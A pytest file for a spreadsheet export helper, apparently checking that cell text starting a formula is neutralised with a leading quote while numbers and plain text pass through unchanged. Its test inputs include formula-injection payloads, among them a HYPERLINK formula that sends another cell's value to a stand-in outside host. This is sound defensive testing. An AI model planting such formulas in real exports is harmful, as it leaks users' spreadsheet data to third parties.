import csv
import io

import pytest

from app.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://e.x/?"&A2,"x")'])
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0.25, -3, "-0.5", "+1e-3", "plain", "a=b", "", None])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_text_reads_back_with_the_quote_and_numbers_intact():
    text = csv_text([["=evil()", -1.5, "ok, with comma"]], header=["name", "score", "note"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "score", "note"], ["'=evil()", "-1.5", "ok, with comma"]]
